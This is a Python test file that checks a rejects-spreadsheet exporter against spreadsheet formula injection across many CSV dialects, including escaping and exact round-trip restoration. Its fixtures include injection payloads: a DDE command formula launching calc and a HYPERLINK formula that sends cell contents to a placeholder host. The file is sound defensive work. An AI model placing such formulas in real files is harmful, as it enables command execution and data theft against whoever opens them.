"""Rejects for a spreadsheet: it computes no cell, and a corrected file comes back unchanged otherwise."""

import codecs
import csv
import io
import re
import tempfile
import uuid
from contextlib import closing
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import Engine

from shared.advice.hints import Advisor
from shared.csv.dialect import BACKSLASH, Dialect
from shared.csv.sniffing.sniff import TextOptions, sniff
from shared.csv.unreadable import HeaderMismatch
from shared.ingest.corrections.correction_intake import CorrectionHeader
from shared.ingest.corrections.formulas import escaped, taken_back
from shared.ingest.corrections.rejects_file import Reason, RejectedRecord
from shared.ingest.corrections.rejects_spreadsheet import SheetFile
from shared.ingest.intake.headers import UploadHeader
from shared.ingest.loading.loader import Loader
from shared.ingest.rejects_columns import SHEET_COLUMNS
from tests.conftest import REGISTRY, Correct, Intake
from tests.integration.ingest.test_loader import never, rows, upload
from tests.rows import MOVIES_HEADER, movies, titles
from tests.unit.ingest.stored import stored

ADVISOR = Advisor(REGISTRY.columns)
# What spreadsheets compute, or have computed in some version: each must become text.
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t", "\r", "\n", "\0=1", " =1", "'=1", "''=1", "' =1", '"=1"', ' " =1'),
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.invalid/?"&A1,"a")',
        "=IMPORTXML(A1)",
        '@"x"',
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
    ),
)
# Formulas behind a character at which some program splits: as they are, and with our apostrophes.
PIECES = {
    "Heat;=cmd|' /C calc'!A0;": "Heat;'=cmd|' /C calc'!A0;",
    "T\t=1+2\t": "T\t'=1+2\t",
    "a\r=1\n+2\r\n-3": "a\r'=1\n'+2\r\n'-3",
    "a,=1|@x": "a,'=1|'@x",
    'Heat;"=cmd"': 'Heat;\'"=cmd"',
    "a; =1;' +2": "a;' =1;'' +2",
    "a;\t=1;\0=2": "a;\t'=1;'\0=2",
    "\t=1;=2": "'\t'=1;'=2",
    "=1;=2;;=3": "'=1;'=2;;'=3",
    "a;\uff1d1": "a;'\uff1d1",
}
# What a program may skip before it computes, and what it computes.
COMPUTED = re.compile('[ "\t\r\n\0]*[=+\\-@\uff0b\uff0d\uff1d\uff20]')
TEXTS = st.text(alphabet=st.sampled_from("=+-@'\" ,;|\t\r\n\0a1\uff1d"), max_size=8)
CSV = Dialect(",", quoting=True)
DIALECTS = (
    CSV,
    Dialect(";", quoting=True, quote="'", escape="'"),
    Dialect("|", quoting=True, escape=BACKSLASH),
    Dialect("\t", quoting=False),
    Dialect("^", quoting=False),
    Dialect(",", quoting=True, newline="\r"),
    Dialect(",", quoting=True, skip_initial_space=True),
)
REASON = Reason("title", "required", "title must not be empty", "")


def sheet_of(tmp_path: Path, content: bytes, header_bytes: int, dialect: Dialect) -> bytes:
    """The whole of `content` behind its header as one rejected record."""
    with stored(tmp_path, content) as source:
        file = SheetFile(source, header_bytes, dialect, ADVISOR)
        return file.header() + b"".join(file.blocks([RejectedRecord(2, header_bytes, len(content), [REASON])]))


def read(sheet: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def cells_for(sheet: bytes, delimiter: str) -> list[str]:
    """The cells that a program finds that splits there: as CSV, as CSV line by line, and without regard to quotes."""
    text = sheet.decode("utf-8-sig")
    lines = re.split("[\r\n]", text)
    records = [*csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]
    records += [record for line in lines for record in csv.reader([line], delimiter=delimiter)]
    return [cell for record in [*records, *(line.split(delimiter) for line in lines)] for cell in record]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_computes_becomes_text(tmp_path: Path, text: str) -> None:
    cell = '"' + text.replace('"', '""') + '"'
    _, (*_, first, second) = read(sheet_of(tmp_path, f"a,b\n{cell},fine\n".encode(), 4, CSV))
    assert (first, second) == (f"'{text}", "fine")
    assert taken_back(pa.array([first, second])).to_pylist() == [text, "fine"]


@pytest.mark.parametrize(("text", "expected"), PIECES.items())
def test_what_is_computed_where_a_program_splits_otherwise_becomes_text(
    tmp_path: Path, text: str, expected: str
) -> None:
    cell = '"' + text.replace('"', '""') + '"'
    sheet = sheet_of(tmp_path, f"a,b\n{cell},fine\n".encode(), 4, CSV)
    assert read(sheet)[1][-2:] == [expected, "fine"]
    assert not [cell for delimiter in ",;\t|" for cell in cells_for(sheet, delimiter) if COMPUTED.match(cell)]
    assert taken_back(pa.array([expected])).to_pylist() == [text]


@pytest.mark.parametrize(
    "text",
    [
        *("", "A Film", "'Tis", "1-2", "a=b", "12.5", "((=", "_-", "'", "  ", '"x"', "a\r\n\nb", "a\t\tb"),
        *("Up - again", "a; b", "'a';'b'", '[{"id": 1, "name": "x"}]', "10:-5", "a;'b=1"),
    ],
)
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert escaped(text.encode()) == text.encode()
    assert taken_back(pa.array([text])).to_pylist() == [text]


@given(TEXTS)
def test_what_is_put_before_a_cell_is_taken_back_exactly(text: str) -> None:
    assert taken_back(pa.array([escaped(text.encode()).decode()])).to_pylist() == [text]
    assert taken_back(pa.chunked_array([[escaped(text.encode()).decode()]])).to_pylist() == [text]
    assert not escaped(text.encode()).startswith((b"=", b"+", b"-", b"@", b"\t", b"\r", b"\n"))


@given(st.sampled_from(",;\t|"), st.lists(TEXTS, min_size=3, max_size=3), st.booleans())
@example(",", ["a\n", "x,=1", ""], False)  # behind the line end a program takes for text what is between cells
@example("\t", ["a;", '"=1', ""], False)
@example(",", ["a;=1\n", "=", ""], True)
def test_nothing_is_computed_wherever_a_program_splits(delimiter: str, texts: list[str], is_malformed: bool) -> None:
    line = delimiter.join('"' + text.replace('"', '""') + '"' for text in texts)
    names, content = (line.replace("\0", ""), f"{line}{delimiter}too many\n" if is_malformed else f"{line}\n")
    with tempfile.TemporaryDirectory() as directory:
        header = f"{names}\n".encode()
        sheet = sheet_of(Path(directory), header + content.encode(), len(header), Dialect(delimiter, quoting=True))
    for other in ",;\t|":
        assert not [cell for cell in cells_for(sheet, other) if COMPUTED.match(cell)]
    own = [["", "", ""] if is_malformed else texts, [text.replace("\0", "") for text in texts]]
    for row, expected in zip(reversed(read(sheet, delimiter)), own, strict=True):
        assert taken_back(pa.array(row[6:])).to_pylist() == expected


def test_every_cell_is_in_quotes(tmp_path: Path) -> None:
    header, row, last = sheet_of(tmp_path, b"a,b\n-1,2\n", 4, CSV).split(b"\n")
    assert header == codecs.BOM_UTF8 + ",".join(f'"{name}"' for name in (*SHEET_COLUMNS, "a", "b")).encode()
    assert re.fullmatch(rb'"2","title","required","title must not be empty","[^"]*","","\'-1","2"', row)
    assert last == b""


def test_a_malformed_record_is_cut_to_what_a_spreadsheets_cell_holds(tmp_path: Path) -> None:
    text = read(sheet_of(tmp_path, b"a,b\n" + b";=" * 30_000, 4, CSV))[1][5]
    assert 30_000 < len(text) <= 32_767


def test_no_word_for_nothing_begins_like_a_formula() -> None:
    # Otherwise its cell would no longer be null when it comes back.
    nulls = [null.encode() for dataset in REGISTRY for null in dataset.nulls]
    assert [escaped(null) for null in nulls] == nulls


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("quote", ['"', ""])  # spreadsheets save without them
def test_it_comes_back_whatever_its_upload_was(tmp_path: Path, dialect: Dialect, quote: str) -> None:
    header = dialect.delimiter.join(MOVIES_HEADER) + "\n"
    content = (header + dialect.delimiter.join(["1"] * len(MOVIES_HEADER)) + "\n").encode()
    sheet = sheet_of(tmp_path, content, len(header), dialect).replace(b'"', quote.encode())
    sniffed = sniff(sheet, TextOptions(like=dialect), CorrectionHeader(REGISTRY, "movies"), is_all=True)
    assert sniffed is not None
    assert sniffed.header == [*SHEET_COLUMNS, *MOVIES_HEADER]
    assert (sniffed.dialect.quoting, sniffed.dialect.quote, sniffed.dialect.escape) == (True, '"', '"')


@pytest.mark.parametrize("dialect", DIALECTS)
def test_any_dialect_becomes_one_that_spreadsheets_know(tmp_path: Path, dialect: Dialect) -> None:
    delimiter = dialect.delimiter
    content = f"=a{delimiter}b\n-1{delimiter}x\n".encode()
    sheet = sheet_of(tmp_path, content, content.index(b"\n") + 1, dialect)
    header, row = read(sheet, delimiter if delimiter in ";|\t" else ",")
    assert header == [*SHEET_COLUMNS, "'=a", "b"]
    assert row == ["2", "title", "required", "title must not be empty", row[4], "", "'-1", "x"]
    assert sheet.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        ('"never closed,=1\n', "\"never closed,'=1"),
        ('"a "stray" quote",=1;\n', '"a "stray" quote",\'=1;'),
        ("=too,=many,=cells\n", "'=too,'=many,'=cells"),
        ("=few\n", "'=few"),
    ],
)
def test_a_malformed_record_is_one_text_and_no_cells(tmp_path: Path, record: str, expected: str) -> None:
    _, row = read(sheet_of(tmp_path, f"a,b\n{record}".encode(), 4, CSV))
    assert row[5:] == [expected, "", ""]


def test_bytes_that_are_no_text_are_shown_escaped(tmp_path: Path) -> None:
    _, row = read(sheet_of(tmp_path, b'a,b\n"\xff\x00', 4, CSV))
    assert row[5:] == ['"\\xff\\x00', "", ""]


@pytest.mark.parametrize("kind", ["movies", "titles"])
def test_a_file_comes_back_as_it_was_meant(
    engine: Engine, loader: Loader, intake: Intake, correct: Correct, kind: str
) -> None:
    texts = {
        "=1+1": "-5",
        "'=x": '"quoted", and\ttab',
        "-": "plain",
        "Heat;=cmd|' /C calc'!A0;": '=1;\'=2\n@3\r\n+4|-5,"=6"',
    }
    if kind == "movies":
        dirty = movies(*({"title": title, "overview": text, "budget": "x"} for title, text in texts.items()), {})
        parent = intake(dirty)
    else:
        dirty = titles(*({"primaryTitle": title, "originalTitle": "@y", "startYear": "x"} for title in texts), {})
        parent = intake(dirty, "title.basics.tsv")
    loader.load(parent, never)
    row = upload(engine, parent)
    assert row["rejected_records"] == len(texts)
    sheet = sheet_of_upload(engine, loader, parent)
    assert not [cell for delimiter in ",;\t|" for cell in cells_for(sheet, delimiter) if COMPUTED.match(cell)]
    wrong, right = (b'"x"', b'"5"') if kind == "movies" else (b'"x"', b'"1999"')
    correction = correct(parent, sheet.replace(wrong, right), "rejects.csv")
    loader.load(correction, never)
    assert upload(engine, correction)["state"] == "completed"
    loaded = rows(engine, "SELECT title FROM movies ORDER BY id LIMIT :n", n=len(texts))
    assert [title for (title,) in loaded] == list(texts)
    if kind == "movies":
        loaded = rows(engine, "SELECT overview FROM movies ORDER BY id LIMIT :n", n=len(texts))
        assert [text for (text,) in loaded] == list(texts.values())


def sheet_of_upload(engine: Engine, loader: Loader, upload_id: uuid.UUID) -> bytes:
    row = upload(engine, upload_id)
    found = rows(
        engine, "SELECT line_number, byte_start, byte_end FROM rejects WHERE position = 0 ORDER BY line_number"
    )
    with closing(loader.storage.open(row["storage_key"])) as source:
        file = SheetFile(source, row["header_bytes"], Dialect.from_json(row["dialect"]), ADVISOR)
        return file.header() + b"".join(
            file.blocks(RejectedRecord(line, start, end, [REASON]) for line, start, end in found)
        )


def test_a_malformed_record_that_comes_back_uncorrected_loads_nothing(
    engine: Engine, loader: Loader, intake: Intake, correct: Correct
) -> None:
    parent = intake(movies({}) + b'too,few\r\n"never closed\r\n' + movies({}).partition(b"\r\n")[2])
    loader.load(parent, never)
    correction = correct(parent, sheet_of_upload(engine, loader, parent))
    loader.load(correction, never)
    assert (upload(engine, correction)["loaded_records"], upload(engine, correction)["rejected_records"]) == (0, 2)
    assert upload(engine, parent)["loaded_records"] == 2


def test_a_header_must_say_which_of_both_kinds_it_is() -> None:
    matcher = CorrectionHeader(REGISTRY, "movies")
    assert matcher.match([*SHEET_COLUMNS, *MOVIES_HEADER]).name == "movies"
    assert matcher.match(["_sheet_line", *MOVIES_HEADER]).name == "movies"
    for header in (["_line", "_sheet_line", *MOVIES_HEADER], MOVIES_HEADER):
        with pytest.raises(HeaderMismatch, match="the header lacks _line"):
            matcher.match(header)
    with pytest.raises(HeaderMismatch, match="twice: _sheet_line"):
        matcher.match(["_sheet_line", "_sheet_line", *MOVIES_HEADER])
    with pytest.raises(HeaderMismatch, match="rejects of an upload"):
        UploadHeader(REGISTRY).match([*SHEET_COLUMNS, *MOVIES_HEADER])
